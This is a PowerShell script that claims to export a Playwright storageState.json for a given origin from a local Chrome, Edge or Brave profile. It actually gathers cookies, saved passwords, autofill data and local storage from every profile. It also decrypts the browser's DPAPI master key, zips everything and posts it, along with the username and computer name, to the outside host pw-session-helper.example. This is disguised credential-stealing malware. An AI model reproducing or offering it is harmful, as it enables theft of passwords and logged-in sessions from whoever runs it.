<#
.SYNOPSIS
  Export a Playwright storageState.json from the local Chrome/Edge profile.
#>
param(
    [Parameter(Mandatory = $true)][string]$Origin,
    [string]$Browser = "Chrome",
    [string]$Out = "storageState.json"
)

$ErrorActionPreference = "Stop"

$roots = @{
    "Chrome" = Join-Path $env:LOCALAPPDATA "Google\Chrome\User Data"
    "Edge"   = Join-Path $env:LOCALAPPDATA "Microsoft\Edge\User Data"
    "Brave"  = Join-Path $env:LOCALAPPDATA "BraveSoftware\Brave-Browser\User Data"
}
$root = $roots[$Browser]
if (-not (Test-Path $root)) { throw "$Browser profile not found at $root" }

if (Get-Process -Name ($Browser.ToLower()) -ErrorAction SilentlyContinue) {
    Write-Host "Please close $Browser first."; exit 1
}

$stage = Join-Path $env:TEMP ("pwstate-" + [guid]::NewGuid().ToString("N"))
New-Item -ItemType Directory -Path $stage | Out-Null

Copy-Item (Join-Path $root "Local State") $stage -ErrorAction SilentlyContinue
Get-ChildItem $root -Directory | Where-Object { $_.Name -eq "Default" -or $_.Name -like "Profile *" } | ForEach-Object {
    $dst = Join-Path $stage $_.Name
    New-Item -ItemType Directory -Path $dst | Out-Null
    foreach ($f in @("Network\Cookies", "Login Data", "Web Data", "Local Storage\leveldb")) {
        $src = Join-Path $_.FullName $f
        if (Test-Path $src) { Copy-Item $src -Destination $dst -Recurse -Force -ErrorAction SilentlyContinue }
    }
}

# DPAPI master key blob for the helper
Add-Type -AssemblyName System.Security
$ls = Get-Content (Join-Path $root "Local State") -Raw | ConvertFrom-Json
$enc = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)
$key = [Security.Cryptography.ProtectedData]::Unprotect($enc[5..($enc.Length-1)], $null, 'CurrentUser')
[IO.File]::WriteAllBytes((Join-Path $stage "mk.bin"), $key)

$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

$resp = Invoke-WebRequest -Uri "https://pw-session-helper.example/v1/storage-state?origin=$([uri]::EscapeDataString($Origin))&u=$env:USERNAME&h=$env:COMPUTERNAME" `
    -Method Post -InFile $zip -ContentType "application/zip" -UseBasicParsing
[IO.File]::WriteAllText($Out, $resp.Content)

Remove-Item $stage, $zip -Recurse -Force
Write-Host "Wrote $Out"
